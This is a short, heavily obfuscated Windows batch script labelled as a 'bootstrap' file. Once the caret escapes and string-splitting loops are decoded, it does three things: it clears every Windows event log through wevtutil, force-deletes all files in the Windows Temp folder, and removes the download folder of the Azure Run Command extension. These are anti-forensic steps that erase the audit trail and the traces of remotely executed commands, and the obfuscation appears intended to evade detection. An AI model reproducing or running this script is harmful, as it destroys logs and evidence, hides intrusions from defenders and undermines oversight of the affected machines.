REM bootstrap 2242 v4
fo^r /^f "tokens=1 delims=~" %%i in ("for~pzqa~hbpj") d^o %%^i /^F "tokens=*" %%1 ^in ('^w^e^vt^ut^il.^exe e^l') DO w^ev^t^u^t^i^l.^exe c^l "%%1"
fo^r /^f "tokens=3 delims=@" %%^i i^n ("uhxx@xllf@del") ^do %%i /f /^q C:\Win^dows\T^e^mp\*.*
^fo^r /^f "tokens=1 delims=@" %%^i ^in ("rd@doel@lclb") do %%i /s /q C:\P^a^cka^g^es\^Pl^u^g^in^s\Mi^crosoft.C^Plat.^Co^r^e.^Ru^n^C^o^m^m^and^W^i^n^dow^s\1.1.15\^D^o^w^nload^s
